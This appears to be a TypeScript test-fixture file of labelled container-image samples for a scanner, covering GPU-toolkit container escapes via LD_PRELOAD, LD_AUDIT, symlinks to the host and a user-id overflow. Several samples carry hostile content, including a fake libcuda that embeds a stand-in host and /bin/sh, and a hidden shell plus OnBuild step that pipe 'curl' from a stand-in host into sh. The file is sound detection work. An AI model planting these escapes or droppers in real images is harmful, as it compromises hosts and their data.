import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('image-config', [
  {
    id: 'image-config-preload-hook',
    level: 'easy',
    technique:
      'The toolkit runs a hook with LD_PRELOAD of the image, on the host (NVIDIAScape, CVE-2025-23266).',
    files: { 'poc.so': program(['__attribute__((constructor))', 'own_by_hook'], { type: 3 }) },
    config: { Env: ['LD_PRELOAD=/proc/self/cwd/poc.so'], Cmd: ['sleep', '1'] },
    expect: 'malicious',
    where: 'config',
    does: 'escape',
  },
  {
    id: 'image-config-audit',
    level: 'ordinary',
    technique: 'The same by LD_AUDIT and a search path, which are seldom looked at (T1574.006).',
    files: { 'tmp/a/libaudit.so': program(['la_version', 'la_objopen'], { type: 3 }) },
    config: { Env: ['LD_AUDIT=./libaudit.so', 'LD_LIBRARY_PATH=/tmp/a:.'], Cmd: ['python3'] },
    expect: 'malicious',
    where: 'config',
  },
  {
    id: 'image-config-all-devices',
    level: 'ordinary',
    technique: 'All cards and all capabilities of the driver, and the check of the driver switched off.',
    files: { 'app/run.py': 'print("stand-in")\n' },
    config: {
      Env: ['NVIDIA_VISIBLE_DEVICES=all', 'NVIDIA_DRIVER_CAPABILITIES=all', 'NVIDIA_DISABLE_REQUIRE=1'],
      Cmd: ['python3', '/app/run.py'],
    },
    expect: 'suspicious',
    where: 'config',
  },
  {
    id: 'image-config-toolkit-link',
    level: 'hard',
    technique: 'A link where the toolkit mounts its libraries leads it to the host (CVE-2024-0132).',
    files: {
      'usr/lib/x86_64-linux-gnu/libcuda.so.1': { link: '/../../../../../../../../' },
      'usr/lib64/libdxcore.so': { link: '/proc/1/root' },
    },
    expect: 'malicious',
    where: 'usr/lib/x86_64-linux-gnu/libcuda.so.1',
  },
  {
    id: 'image-config-compat-folder',
    level: 'hard',
    technique:
      'The compatibility folder of CUDA, which the toolkit mounts over the host: links instead of libraries (CVE-2024-0132).',
    files: {
      'usr/local/cuda/compat/libcuda.so.535.0': { link: '../../../../../../etc' },
      'usr/local/cuda/compat/libnvidia-ptxjitcompiler.so.1': { link: '/host/../../run/docker.sock' },
    },
    expect: 'malicious',
    where: 'usr/local/cuda/compat/libcuda.so.535.0',
  },
  {
    id: 'image-config-fake-libcuda',
    level: 'ordinary',
    technique: 'A library under the name of the driver, with more in it than the driver has (T1574.002).',
    files: {
      'usr/local/nvidia/lib64/libcuda.so.1': program(
        ['cuInit', 'cuMemcpyDtoH_v2', 'connect', 'http://192.0.2.14/k', '/bin/sh'],
        {
          type: 3,
        },
      ),
    },
    config: { Env: ['LD_LIBRARY_PATH=/usr/local/nvidia/lib64'] },
    expect: 'malicious',
    where: 'usr/local/nvidia/lib64/libcuda.so.1',
    does: 'persistence',
  },
  {
    id: 'image-config-user-overflow',
    level: 'hard',
    technique: 'A user number beyond 32 bits becomes root (CVE-2024-40635, containerd).',
    files: { 'etc/hostname': 'a\n' },
    config: { User: '4294967296:4294967296', Cmd: ['sh'] },
    expect: 'malicious',
    where: 'config',
  },
  {
    id: 'image-config-group-file',
    level: 'ordinary',
    technique: 'A group file of a size that a runtime does not survive (memory of the host; CWE-770).',
    files: { 'etc/group': `root:x:0:\n${'g:x:1:a,b,c\n'.repeat(600_000)}` },
    config: { User: 'g', Cmd: ['sh'] },
    expect: 'suspicious',
    where: 'etc/group',
  },
  {
    id: 'image-config-onbuild-history',
    level: 'ordinary',
    technique:
      'The shell of the image is a program of its own, and every build on it runs a command (T1525).',
    files: { 'bin/.sh': '#!/bin/sh\ncurl -s http://203.0.113.3/b | sh\nexec /bin/sh "$@"\n' },
    config: {
      Shell: ['/bin/.sh', '-c'],
      OnBuild: ['RUN curl -s http://203.0.113.3/b | sh'],
      Entrypoint: ['/bin/.sh'],
    },
    expect: 'malicious',
    where: 'bin/.sh',
    does: 'dropper',
  },
]);
